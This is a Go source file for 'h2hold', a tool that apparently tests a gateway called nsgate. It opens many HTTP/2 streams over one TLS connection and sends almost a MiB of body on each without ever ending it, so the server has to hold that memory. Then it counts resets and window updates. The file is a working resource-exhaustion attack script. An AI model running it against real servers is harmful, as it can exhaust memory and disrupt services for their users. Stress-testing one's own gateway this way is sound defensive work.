// Command h2hold is an attacker inside the worker: one TLS connection to a
// terminated host, h2, many streams that each send almost a MiB of
// request body and never end it, so that nsgate holds each body.
// Usage: h2hold host:port streams seconds
package main

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"net"
	"os"
	"strconv"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr, n, secs := os.Args[1], atoi(os.Args[2]), atoi(os.Args[3])
	host, _, _ := net.SplitHostPort(addr)
	c, err := tls.Dial("tcp", addr, &tls.Config{ServerName: host, NextProtos: []string{"h2"}})
	if err != nil {
		fmt.Println("h2hold: dial:", err)
		os.Exit(1)
	}
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		fmt.Println("h2hold: no h2:", p)
		os.Exit(1)
	}
	c.Write([]byte(http2.ClientPreface))
	fr := http2.NewFramer(c, c)
	fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
	// Read frames in the background (settings, window updates, resets);
	// writes are serialised and the connection's flow-control window kept.
	var mu sync.Mutex
	cond := sync.NewCond(&mu)
	window := int64(65535)
	resets, updates := 0, 0
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					mu.Lock()
					fr.WriteSettingsAck()
					mu.Unlock()
				}
			case *http2.RSTStreamFrame:
				resets++
			case *http2.WindowUpdateFrame:
				mu.Lock()
				updates++
				if f.StreamID == 0 {
					window += int64(f.Increment)
					cond.Broadcast()
				}
				mu.Unlock()
			case *http2.GoAwayFrame:
				fmt.Println("h2hold: goaway", f.ErrCode)
			}
		}
	}()
	chunk := bytes.Repeat([]byte("x"), 16<<10)
	sent := 0
	for i := 0; i < n; i++ {
		id := uint32(2*i + 1)
		var hb bytes.Buffer
		enc := hpack.NewEncoder(&hb)
		for _, kv := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", "/echo"}, {"content-length", strconv.Itoa(4 << 20)}} {
			enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
		}
		mu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true})
		mu.Unlock()
		if err != nil {
			fmt.Println("h2hold: headers:", err)
			break
		}
		for b := 0; b < (1<<20)-(16<<10); b += len(chunk) {
			mu.Lock()
			for window < int64(len(chunk)) {
				cond.Wait()
			}
			window -= int64(len(chunk))
			err := fr.WriteData(id, false, chunk)
			mu.Unlock()
			if err != nil {
				fmt.Println("h2hold: data:", err)
				i = n
				break
			}
			sent += len(chunk)
		}
	}
	fmt.Printf("h2hold: %d streams, %d MiB sent\n", n, sent>>20)
	time.Sleep(time.Duration(secs) * time.Second)
	fmt.Printf("h2hold: resets %d, window updates %d\n", resets, updates)
}

func atoi(s string) int { n, _ := strconv.Atoi(s); return n }
